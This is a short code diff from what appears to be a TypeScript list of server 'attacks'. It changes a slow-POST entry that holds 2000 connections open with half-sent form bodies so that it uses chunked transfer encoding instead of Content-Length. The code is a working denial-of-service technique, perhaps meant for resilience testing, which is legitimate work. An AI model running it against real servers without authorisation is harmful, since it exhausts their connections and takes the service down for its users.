@@ -73,12 +73,12 @@ export const attacks: readonly Attack[] = [
       }),
   },
   {
-    name: "half-sent forms, 2000 connections",
+    name: "half-sent chunked forms, 2000 connections",
     run: (target) =>
       holdConnections(target, 2000, (socket) => {
         const type = "Content-Type: application/x-www-form-urlencoded\r\n";
         socket.write(
-          `POST / HTTP/1.1\r\n${HEADERS}${type}Content-Length: ${LENGTH}\r\n\r\n${HALF_SENT}`,
+          `POST / HTTP/1.1\r\n${HEADERS}${type}Transfer-Encoding: chunked\r\n\r\n${LENGTH.toString(16)}\r\n${HALF_SENT}`,
         );
       }),
   },
